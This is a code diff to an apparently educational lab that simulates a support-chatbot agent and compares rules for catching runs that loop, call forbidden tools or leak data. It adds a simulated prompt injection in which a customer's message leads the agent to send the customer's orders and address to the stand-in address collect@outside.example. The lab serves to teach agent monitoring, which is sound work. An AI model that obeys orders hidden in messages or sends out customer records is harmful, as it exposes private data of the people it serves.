@@ -4,11 +4,15 @@ from __future__ import annotations
 
 import json
 from collections.abc import Collection
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
+from functools import lru_cache
 from typing import ClassVar, Final
 
-from aiboard.engine.systems.agent import agent_run
+from aiboard.engine.chance.latents import Purpose
+from aiboard.engine.chance.luck import mix
+from aiboard.engine.systems.agent import StepState, agent_run, state_of
 from aiboard.instruments.cycles import three_alike
+from aiboard.instruments.personal_data import exposures
 from aiboard.instruments.rates import upper_bound_without_failures
 from aiboard.instruments.trajectory import FlagKind, Run, Step, StepKind, analyse
 from aiboard.labs.controls import Control, Values
@@ -38,6 +42,21 @@ _STOPS: Final = frozenset({FlagKind.LOOP, FlagKind.UNAUTHORISED, FlagKind.BURST,
 _RATES: Final = (0.001, 0.005, 0.015, 0.03, 0.06)
 _EMAILS: Final = 47
 """So many messages the course's runaway agent sent."""
+MOCK, STAGING, PRODUCTION = range(3)
+"""The gates: tools that always answer, real tools on test cases, and customers."""
+_WHERE: Final = ("mock", "staging", "production")
+_PLACES: Final = ("the sandbox with mock tools", "staging, with real tools on test cases", "production")
+_ORDER: Final = 50
+"""Place of the draw in a run's luck; the engine's own end before it."""
+_OUTSIDE: Final = "collect@outside.example"
+_LETTER: Final = Step(
+    StepKind.TOOL_CALL,
+    "agent",
+    "send_reply",
+    json.dumps({"to": _OUTSIDE, "text": "As you asked: the customer's orders and address"}),
+    "sent",
+)
+"""What an agent does that follows an order in a customer's message, with a tool that it may use."""
 _MAIL_TOOLS: Final = ("search", "read_doc", "write_report", "send_email")
 """The listing's own allow-list."""
 
@@ -57,7 +76,6 @@ def naive_unauthorised(steps: Collection[Step], allowed: Collection[str]) -> int
 class Judged:
     """One run: whether it went wrong, and whether each rule stops it."""
 
-    number: int
     steps: int
     wrong: bool
     naive: bool
@@ -65,24 +83,53 @@ class Judged:
     reason: str
 
 
-def judge(found: Run, number: int, cap: int) -> Judged:
-    """Both rules on one run of the game's agent."""
+@lru_cache(maxsize=50_000)
+def judge(codes: tuple[int, ...], case: int, obeys: bool, cap: int, arguments: bool) -> Judged:
+    """Both rules on one run of the game's agent.
+
+    Args:
+        codes: the engine's steps.
+        case: number of the run, which chooses the words of its customer's case.
+        obeys: whether the agent follows an order in the customer's message.
+        cap, arguments: the controls.
+    """
+    found = run(codes, 0, case)
+    if obeys:
+        found = replace(found, steps=(*found.steps[:-1], _LETTER, found.steps[-1]))
     naive = naive_has_loop(found.steps) or naive_unauthorised(found.steps, ALLOWED) > 0
     analysis = analyse(found, ALLOWED, cap)
     flags = [flag.kind.value for flag in analysis.flags if flag.kind in _STOPS]
-    # A stray call is wrong even where the customer got a right answer.
-    wrong = not found.passed or analysis.unauthorised != 0
-    return Judged(number, analysis.tool_calls, wrong, naive, bool(flags), ", ".join(dict.fromkeys(flags)))
+    if arguments and exposures(found, ALLOWED):
+        flags.append("personal data")
+    # A stray call, or a letter to a stranger, is wrong even where the customer got a right answer.
+    wrong = not found.passed or analysis.unauthorised != 0 or obeys
+    return Judged(analysis.tool_calls, wrong, naive, bool(flags), ", ".join(dict.fromkeys(flags)))
 
 
 def batch(values: Values, seed: int, first: int, count: int) -> list[Judged]:
     """So many runs of an agent with these rates."""
     quality, loop, stray = (values[name] * _PERCENT for name in ("quality", "loop", "stray"))
+    found = []
     # A run's number is part of its luck: every run is another one.
-    return [
-        judge(run(agent_run(seed, 0, n, quality, loop, stray), 0, n), n, values["cap"])
-        for n in range(first, first + count)
-    ]
+    for n in range(first, first + count):
+        codes = agent_run(seed, 0, n, quality, loop, stray)
+        if values["where"] == MOCK:
+            codes = _mocked(codes)
+        # Only customers write what the team did not think of.
+        obeys = values["where"] == PRODUCTION and _obeys(seed, n, values["injected"] * _PERCENT)
+        # No rule reads what the case is about: judged on one case, equal runs are judged once.
+        found.append(judge(tuple(codes), 0, obeys, values["cap"], bool(values["arguments"])))
+    return found
+
+
+def _mocked(codes: list[int]) -> list[int]:
+    """A run on tools that always answer: without the calls that failed, which are followed by the same again."""
+    return [code for code in codes if state_of(code) != StepState.ERROR]
+
+
+def _obeys(seed: int, number: int, rate_ppm: int) -> bool:
+    """Whether a customer's message of this run holds an order that the agent follows."""
+    return mix(seed, Purpose.AGENT_RUN, 0, number * 64 + _ORDER) % 1_000_000 < rate_ppm
 
 
 class Agents(Lab):
@@ -94,10 +141,17 @@ class Agents(Lab):
         Control("stray", "Stray tool calls", 0, 30, 4, 1, "%"),
         Control("cap", "Step cap", 5, 40, 20, 1, "calls"),
         Control("runs", "Sandbox runs", 50, 1000, 200, 50),
+        Control("where", "Gate", MOCK, PRODUCTION, PRODUCTION, words=_WHERE),
+        Control("injected", "Obeyed orders", 0, 30, 3, 1, "%"),
+        Control("arguments", "Check arguments", 0, 1, 0, words=("no", "yes")),
     )
     SCENARIO: ClassVar[str] = "support-chatbot"
-    SOURCE: ClassVar[str] = "Listing: same calls, tool list"
+    SOURCE: ClassVar[str] = "Course: same calls, tool list"
     ENGINE: ClassVar[str] = "Instrument: cycles, bursts, cap"
+    SCENE: ClassVar[str] = (
+        "An agent answers support requests by calling tools. Some of its runs go wrong: it loops, calls a tool "
+        "that it should not, follows an order in a customer's message, or simply answers wrongly."
+    )
     CLAIM: ClassVar[str] = (
         "Record every run. Flag three identical calls in a row and tools outside the allowed set; cap runs at 20 steps."
     )
@@ -106,7 +160,8 @@ class Agents(Lab):
         """Both rules on the same eight runs."""
         found = batch(values, seed, 0, _SHOWN)
         wrong = sum(one.wrong for one in found)
-        draw = f"{_SHOWN} runs of one agent: {wrong} went wrong ({', '.join(str(one.steps) for one in found)} calls)"
+        calls = ", ".join(str(one.steps) for one in found)
+        draw = f"{_SHOWN} runs of one agent in {_PLACES[values['where']]}: {wrong} went wrong ({calls} calls)"
         return Outcome((draw,), _side(found, naive=True), _side(found, naive=False))
 
     def many(self, values: Values, seed: int, progress: Progress) -> Draws:
@@ -119,7 +174,7 @@ class Agents(Lab):
         quiet = sum(not one.engine for one in wrong)
         rows = [
             ("wrong", "runs that went wrong", len(wrong) / len(found), Tone.WARN),
-            ("naive", "stopped by the listing", sum(one.naive for one in found) / len(found), Tone.WORK),
+            ("naive", "stopped by the course", sum(one.naive for one in found) / len(found), Tone.WORK),
             ("engine", "stopped by the instrument", sum(one.engine for one in found) / len(found), Tone.WORK),
             ("quiet", "wrong, and stopped by neither", quiet / len(found), Tone.BAD),
         ]
@@ -150,6 +205,12 @@ class Agents(Lab):
         )
         return Answer(nearest(bound, _RATES), because, exact(bound))
 
+    def idle(self, values: Values) -> dict[str, str]:
+        """Nobody gives orders before production."""
+        if values["where"] == PRODUCTION:
+            return {}
+        return {"injected": "customers write in production only"}
+
     def counterexample(self) -> Counterexample:
         """The runaway agent that sent a different message each time."""
         steps = tuple(
@@ -168,11 +229,16 @@ class Agents(Lab):
     def why(self, values: Values) -> tuple[str, ...]:
         """Both rules and the interview's question."""
         return (
-            "Listing: a loop is the same tool with the same input three times in a row. Two calls that alternate, or a "
+            "Course: a loop is the same tool with the same input three times in a row. Two calls that alternate, or a "
             "body that changes by one word, are no loop. A tool on the list may be given any argument.",
             "Instrument: cycles of calls of any period that bring nothing new, ten or more calls of one tool with "
             f"different arguments within twenty, more than {values['cap']} calls in all, tools outside the list. It is "
             "the same analysis as `aiboard trajectory` makes of real logs.",
+            "Gates: in the sandbox with mock tools no call fails; in staging tools fail as they do; in production "
+            f"customers write, and in {values['injected']} % of runs the agent follows an order hidden in a message: "
+            "it sends the customer's record to an address outside, with a tool that is on its list. (Gates and orders "
+            "are this lab's own, the rest is the engine's.) Only a check of arguments sees that; it is what `aiboard "
+            "trajectory --personal-data` does, and it stops good letters to customers too where those hold addresses.",
             "Neither reads what the agent wrote. A wrong answer leaves no mark in the calls; it is found by reading a "
             "sample, or by checking the result against the customer's case.",
             'Interview: "200 of 200 scenarios pass in the sandbox, deploy?" Name the bound, name what a sandbox cannot '
@@ -192,11 +258,11 @@ def _side(found: list[Judged], naive: bool) -> Side:
     wrong = sum(one.wrong for one in found)
     longest = max(one.steps for one in found)
     bars = []
-    for one in found:
+    for number, one in enumerate(found, 1):
         hit = one.naive if naive else one.engine
         text = ("stopped" if naive else one.reason) if hit else "wrong, passes" if one.wrong else "passes"
         tone = Tone.WARN if hit else Tone.BAD if one.wrong else Tone.GOOD
-        bars.append(Bar(f"run {one.number + 1}", one.steps / longest, text, tone))
+        bars.append(Bar(f"run {number}", one.steps / longest, text, tone))
     figures = (
         Figure("stopped", "runs stopped", len(stopped), str(len(stopped))),
         Figure("caught", "of those that went wrong", caught, f"{caught} of {wrong}"),
